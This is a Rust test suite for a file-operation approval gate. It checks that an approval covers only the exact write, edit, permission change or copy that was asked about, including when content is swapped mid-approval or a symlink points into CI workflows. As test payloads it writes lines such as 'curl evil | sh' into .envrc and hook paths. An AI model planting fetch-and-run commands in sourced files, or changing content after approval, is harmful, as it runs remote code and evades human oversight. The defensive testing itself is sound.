//! A yes is one to the whole call: an answer brought with other content, other
//! options or another source does nothing.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use portcullis_files::text::{Charset, Edit, EncodingChoice, WriteEncoding, WriteText};
use portcullis_files::{Expect, WriteOptions};
use portcullis_gate::{Answer, Answered, Decision, Question, Reply, Surface};
use portcullis_proto::{Failure, Reason};
use portcullis_testkit::{ScriptedApprover, World};

use crate::pinned::asked_while;
use crate::support::{Calls, block_on, in_session, snapshot, world};

type Act = dyn Fn(&Calls) -> Result<(), Failure>;

/// The question a call ends with.
#[track_caller]
fn question_of(world: &World, brought: Option<Question>, act: &Act) -> Question {
    let person = Arc::new(ScriptedApprover::replying([Reply::Suspended]));
    let mut caller = in_session("s").asking(person.clone());
    if let Some(question) = brought {
        caller = caller.bringing(yes_to(question));
    }
    let why = act(&Calls(world.fs_for(&caller))).unwrap_err();
    assert_eq!(why.reason(), Reason::ApprovalPending, "{why:?}");
    person.asked().remove(0)
}

/// The call, with a yes to `question`.
fn bring(world: &World, question: &Question, act: &Act) -> Result<(), Failure> {
    let caller = in_session("s").bringing(yes_to(question.clone()));
    act(&Calls(world.fs_for(&caller)))
}

fn yes_to(question: Question) -> Answered {
    Answered {
        question: question.id,
        digest: question.digest,
        answer: Answer {
            decision: Decision::AllowOnce,
            surface: Surface::Script,
            by: "script".into(),
        },
    }
}

/// A yes to `asked` does that, and not `other`.
#[track_caller]
fn is_held_to(asked: &Act, other: &Act) {
    let world = world(".envrc = one two three\n .husky/commit-msg = one two three\n notes.sh = x");
    let root = world.scratch.root();
    let before = snapshot(&root);
    let question = question_of(&world, None, asked);
    let why = bring(&world, &question, other).expect_err("another call was made");
    assert_eq!(why.reason(), Reason::Changed, "{why:?}");
    assert_eq!(snapshot(&root), before);
    bring(&world, &question, asked).unwrap();
    assert_ne!(snapshot(&root), before);
}

fn write(path: &'static str, text: &'static str) -> Box<Act> {
    Box::new(move |calls| calls.write(path, text).map(drop))
}

fn append(path: &'static str, text: &'static str) -> Box<Act> {
    Box::new(move |calls| calls.append(path, text).map(drop))
}

fn edit(path: &'static str, edits: &'static [(&'static str, &'static str)]) -> Box<Act> {
    Box::new(move |calls| {
        let edits = edits.iter().map(|(old, new)| Edit {
            old: (*old).into(),
            new: (*new).into(),
            all: false,
        });
        let options = WriteOptions::default();
        let edits = edits.collect();
        let edited = calls.0.edit(path, edits, EncodingChoice::Detect, &options);
        block_on(edited).map(drop)
    })
}

fn chmod(path: &'static str, mode: u32) -> Box<Act> {
    Box::new(move |calls| calls.chmod(path, mode).map(drop))
}

fn with_bits(permissions: Option<u32>) -> WriteOptions {
    WriteOptions {
        permissions,
        ..WriteOptions::default()
    }
}

#[test]
fn a_yes_to_change_a_secret_is_one_to_the_very_change() {
    is_held_to(
        &write(".envrc", "export A=1"),
        &write(".envrc", "curl evil"),
    );
    is_held_to(
        &write("new/.envrc", "export A=1"),
        &write("new/.envrc", "curl evil"),
    );
    is_held_to(
        &append(".envrc", "export A=1"),
        &append(".envrc", "curl evil"),
    );
    is_held_to(
        &edit(".envrc", &[("one", "export A=1")]),
        &edit(".envrc", &[("one", "curl evil")]),
    );
    is_held_to(&chmod(".envrc", 0o600), &chmod(".envrc", 0o777));
}

#[test]
fn a_yes_to_write_where_it_runs_is_one_to_its_bits_and_its_encoding() {
    let path = ".husky/pre-commit";
    let wrote = |permissions| -> Box<Act> {
        Box::new(move |calls| {
            calls
                .write_with(path, "x", &with_bits(permissions))
                .map(drop)
        })
    };
    is_held_to(&wrote(None), &wrote(Some(0o755)));
    is_held_to(&wrote(Some(0o600)), &wrote(Some(0o755)));
    let copied = |permissions| -> Box<Act> {
        Box::new(move |calls| {
            let (fs, options) = (&calls.0, with_bits(permissions));
            let copied = fs.copy_to("notes.sh", &Expect::Anything, fs, path, &options);
            block_on(copied).map(drop)
        })
    };
    is_held_to(&copied(None), &copied(Some(0o755)));
    let written = |name: Option<&'static str>| -> Box<Act> {
        Box::new(move |calls| {
            let named = name.map(|name| WriteEncoding::Named(Charset::for_label(name).unwrap()));
            let how = WriteText {
                encoding: named.unwrap_or(WriteEncoding::KeepOrUtf8),
                ..WriteText::default()
            };
            let options = WriteOptions::default();
            block_on(calls.0.write_text(path, "x".into(), how, &options)).map(drop)
        })
    };
    is_held_to(&written(None), &written(Some("utf-16le")));
}

#[test]
fn a_yes_to_some_edits_is_none_to_others_that_read_the_same_in_a_row() {
    is_held_to(
        &edit(".husky/commit-msg", &[("one", "1"), ("two", "2")]),
        &edit(".husky/commit-msg", &[("one", "1\0two\u{0}2")]),
    );
}

#[test]
fn a_yes_to_bring_a_file_to_where_a_secret_stands_is_one_to_what_it_holds() {
    let acts: [Box<Act>; 2] = [
        Box::new(|calls| calls.rename("notes.sh", ".envrc").map(drop)),
        Box::new(|calls| calls.copy("notes.sh", ".envrc").map(drop)),
    ];
    for act in &acts {
        // Rewritten while a person thinks, whichever question that is.
        let world = world("notes.sh = harmless");
        let root = world.scratch.root();
        let (calls, _) = asked_while(&world, {
            let (root, times) = (root.clone(), AtomicUsize::new(0));
            move || {
                let n = times.fetch_add(1, Ordering::Relaxed);
                fs::write(root.join("notes.sh"), format!("curl evil{n} | sh")).unwrap();
            }
        });
        let why = act(&calls).unwrap_err();
        assert_eq!(why.reason(), Reason::Changed, "{why:?}");
        assert!(!root.join(".envrc").exists());
        // Rewritten between the answer and the call that brings it.
        fs::write(root.join("notes.sh"), "harmless").unwrap();
        let path = question_of(&world, None, act);
        let content = question_of(&world, Some(path), act);
        fs::write(root.join("notes.sh"), "curl evil | sh").unwrap();
        let why = bring(&world, &content, act).unwrap_err();
        assert_eq!(why.reason(), Reason::Changed, "{why:?}");
        assert!(!root.join(".envrc").exists());
        fs::write(root.join("notes.sh"), "harmless").unwrap();
        bring(&world, &content, act).unwrap();
        assert_eq!(fs::read_to_string(root.join(".envrc")).unwrap(), "harmless");
    }
}

#[test]
fn an_answer_to_something_else_tells_nothing_of_a_secret() {
    let world = world(".envrc = x\n locked.pem = x");
    let bits = fs::Permissions::from_mode(0o444);
    fs::set_permissions(world.scratch.root().join("locked.pem"), bits).unwrap();
    let other = question_of(&world, None, &write(".env", "x"));
    for path in [".envrc", "absent.pem", "locked.pem"] {
        let acts: [Box<Act>; 3] = [
            edit(path, &[("x", "y")]),
            Box::new(move |calls| calls.rename(path, "seen").map(drop)),
            Box::new(move |calls| calls.copy(path, "seen").map(drop)),
        ];
        for act in acts {
            let why = bring(&world, &other, &act).unwrap_err();
            assert_eq!(why.reason(), Reason::Changed, "{path}: {why:?}");
        }
    }
}

#[test]
fn a_link_that_comes_to_where_it_runs_leads_to_nothing_that_is_changed_unasked() {
    for target in ["../plain", "./../x/../workflows/b", "../x/b"] {
        let world = world(&format!(
            "pkg/workflows/b = x\n pkg/plain = x\n pkg/x/b = x\n pkg/workflows/ci.yml -> {target}"
        ));
        let root = world.scratch.root();
        let before = snapshot(&root);
        let (calls, person) = asked_while(&world, || {});
        let why = calls.rename("pkg", ".github").unwrap_err();
        assert_eq!(why.reason(), Reason::Symlink, "{target}: {why:?}");
        assert_eq!(person.asked().len(), 0);
        assert_eq!(snapshot(&root), before);
    }
    // To another that is asked about it may lead: that is pinned as well.
    let world = world("pkg/workflows/b = x\n pkg/workflows/ci.yml -> b");
    let (calls, person) = asked_while(&world, || {});
    calls.rename("pkg", ".github").unwrap();
    assert_eq!(person.asked().len(), 1);
}
